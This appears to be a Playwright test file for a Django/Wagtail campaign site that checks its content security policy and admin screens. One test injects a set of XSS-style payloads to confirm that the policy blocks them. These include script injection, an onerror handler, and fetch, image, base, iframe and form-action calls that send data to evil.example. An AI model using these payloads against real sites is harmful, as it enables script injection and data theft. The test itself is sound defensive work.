"""The content security policy, in a real browser whose console is watched (tests/browser/conftest.py): nothing that the
site needs is kept from it, and what an attacker would do is."""

import pytest
from django.core import mail
from django.urls import reverse
from playwright.sync_api import Browser, Page, Route, expect

from campaigns.models import Letter, ReviewLink
from tests import factories

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ANSWERS = {"First name": "Jane", "Last name": "Doe", "E-mail": "jane@example.org", "Postal code": "K1A 0A6"}


def write(tab: Page) -> None:
    for label, answer in ANSWERS.items():
        tab.get_by_label(label, exact=True).fill(answer)


def test_a_supporters_whole_way_breaks_no_rule(live_server, page, tab):
    site = live_server.url
    for path in ("/en/", "/en/campaigns/", "/en/nowhere/", page.url):
        tab.goto(site + path)
    write(tab)
    expect(tab.get_by_text("Robin Member")).to_be_visible()
    tab.get_by_role("button", name="Preview my letter").click()
    expect(tab.get_by_role("heading", name="Your letter, before you send it")).to_be_visible()
    tab.get_by_role("button", name="Send my letter").click()
    expect(tab.get_by_role("heading", name="Thank you. Check your e-mail.")).to_be_visible()
    letter = Letter.objects.get()
    for path in (letter.receipt_path, letter.withdrawal_path, letter.erasure_path, letter.confirmation_path):
        tab.goto(site + path)
    tab.get_by_role("link", name="See what became of your letter").click()
    expect(tab.get_by_role("heading", name="Who gets it")).to_be_visible()
    assert not mail.outbox


def test_the_way_to_a_persons_own_mastodon_server_is_open(live_server, page, context):
    def serve(route: Route) -> None:
        route.fulfill(body="Their own form", content_type="text/html")

    context.route("https://mastodon.example/**", serve)
    tab = context.new_page()
    tab.goto(live_server.url + page.thank_you_url)
    tab.get_by_text("Mastodon", exact=True).click()
    for typed in ("no server", "mastodon.example"):  # after a slip the form stands on the page again
        tab.locator("[name=server]").fill(typed)
        tab.get_by_role("button", name="Share on Mastodon").click()
    tab.wait_for_url("https://mastodon.example/share*")


def test_nothing_that_slips_into_a_page_runs_or_leads_away(live_server, page, tab, violations):
    tab.goto(live_server.url + page.url)
    attacks = {
        "script-src": "document.body.append(Object.assign(document.createElement('script'), {text: 'stolen = 1'}))",
        "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=stolen=2>')",
        "img-src": "new Image().src = 'https://evil.example/?' + document.title",
        "connect-src": "fetch('https://evil.example/').catch(() => {})",
        "base-uri": "document.head.insertAdjacentHTML('beforeend', '<base href=https://evil.example/>')",
        "frame-src": "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example/></iframe>')",
        "form-action": "document.forms[0].action = 'https://evil.example/'; document.forms[0].submit()",
    }
    for attack in attacks.values():
        tab.evaluate(f"() => {{ {attack} }}")
    tab.wait_for_timeout(300)
    assert tab.evaluate("typeof stolen") == "undefined"
    assert tab.url == live_server.url + page.url
    assert [name for name in attacks if not any(name.removesuffix("-attr") in said for said in violations)] == []
    violations.clear()


def test_the_admins_usual_screens_break_no_rule(live_server, author, page):
    factories.make_picture(description="Hands")
    screens = ["wagtailadmin_home", "campaign_states:index", "to_do", "wagtailimages:index", "wagtaildocs:index"]
    screens += ["wagtailimages:add_multiple", "wagtailusers_users:index", "wagtailadmin_reports:site_history"]
    for name in screens:
        author.goto(live_server.url + reverse(name))
    author.goto(f"{live_server.url}/admin/pages/{page.pk}/edit/")
    author.get_by_role("button", name="Toggle preview").click()
    frame = author.frame_locator("#w-preview-iframe")
    expect(frame.get_by_role("heading", name="Justice now")).to_be_visible()
    author.get_by_role("button", name="Toggle checks").click()
    author.wait_for_timeout(1000)  # its checker has run by then
    author.get_by_role("button", name="Choose an image").first.click()
    expect(author.get_by_role("link", name="IMG 1")).to_be_visible()
    author.goto(live_server.url + reverse("test_run", args=[page.pk]))
    expect(author.get_by_role("button", name="Send my letter")).to_be_visible()


def test_the_block_chooser_shows_its_samples(live_server, author, index):
    author.goto(f"{live_server.url}/admin/pages/add/campaigns/campaignpage/{index.pk}/")
    author.get_by_role("button", name="Insert a block").first.click()
    author.get_by_role("combobox", name="Search options").fill("Quot")
    author.get_by_role("option", name="Quotation").hover()
    author.locator(".w-combobox__option-preview").first.click(force=True)
    expect(author.frame_locator("iframe").last.get_by_text("A sister")).to_be_visible()


def test_wagtails_bar_works_on_a_public_page(live_server, author, page):
    author.goto(live_server.url + page.url)
    author.get_by_role("button", name="View Wagtail quick actions").click()
    expect(author.get_by_role("menuitem", name="Edit")).to_be_visible()
    author.wait_for_timeout(1500)  # its checker has run by then


def test_a_reviewer_sees_the_draft_as_it_will_look(live_server, page, browser: Browser):
    link = ReviewLink.objects.create(key=page.key)
    tab = browser.new_context().new_page()
    tab.goto(live_server.url + reverse("review", args=[link.token]))
    tab.get_by_role("link", name="Page", exact=True).click()
    expect(tab.get_by_role("heading", name="Justice now")).to_be_visible()
    assert tab.evaluate("getComputedStyle(document.querySelector('.bar')).display") == "block"
